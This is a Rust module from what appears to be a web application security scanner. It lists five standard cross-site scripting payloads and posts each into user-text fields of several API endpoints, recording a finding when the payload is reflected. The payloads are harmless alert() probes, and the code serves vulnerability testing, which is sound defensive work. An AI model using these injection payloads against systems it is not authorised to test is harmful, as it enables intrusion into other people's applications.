use crate::findings::{FindingLog, Severity};
use crate::http_client::Session;
use serde_json::{Map, Value};

/// Marker replaced by each payload in the field templates.
pub const PAYLOAD_MARKER: &str = "PAYLOAD";

pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "javascript:alert('XSS')",
    "<svg onload=alert('XSS')>",
    "';alert('XSS');//",
];

/// Endpoints that accept user-controlled text, with field templates to fill.
pub const XSS_TARGETS: &[(&str, &[(&str, &str)])] = &[
    ("/api/profile/update", &[("name", PAYLOAD_MARKER), ("bio", PAYLOAD_MARKER)]),
    ("/api/projects/create", &[("title", PAYLOAD_MARKER), ("description", PAYLOAD_MARKER)]),
    ("/api/organizations/update", &[("name", PAYLOAD_MARKER), ("description", PAYLOAD_MARKER)]),
    ("/api/search", &[("query", PAYLOAD_MARKER)]),
];

/// POST each payload into every field of each endpoint. A 200 echoing the raw
/// payload is a reflected XSS finding; other 200/201 answers are only pointed out
/// for manual stored-XSS follow-up.
pub async fn test_xss_vulnerabilities(session: &Session, findings: &mut FindingLog) {
    println!("\n[*] Testing XSS vulnerabilities");

    for &(endpoint, fields) in XSS_TARGETS {
        let url = match session.endpoint(endpoint) {
            Ok(url) => url,
            Err(e) => {
                println!("[!] Error testing XSS in {}: {}", endpoint, e);
                continue;
            }
        };

        for &payload in XSS_PAYLOADS {
            let body = fill_fields(fields, payload);

            match session.post_json(&url, &body).await {
                Ok(resp) if resp.is_ok() && resp.body.contains(payload) => {
                    findings.log(
                        "Reflected XSS",
                        Severity::High,
                        format!("XSS payload reflected in {}", endpoint),
                        format!("POST {} with payload: {}", url, payload),
                    );
                }
                Ok(resp) if resp.is_accepted() => {
                    println!("[i] Potential stored XSS in {} - manual verification needed", endpoint);
                }
                Ok(_) => {}
                Err(e) => {
                    tracing::warn!(error = %e, "XSS request failed");
                    println!("[!] Error testing XSS in {}: {}", url, e);
                }
            }
        }
    }
}

/// JSON object with every field set to its template with the marker replaced.
pub fn fill_fields(fields: &[(&str, &str)], payload: &str) -> Value {
    let map: Map<String, Value> = fields
        .iter()
        .map(|(field, template)| (field.to_string(), Value::String(template.replace(PAYLOAD_MARKER, payload))))
        .collect();
    Value::Object(map)
}
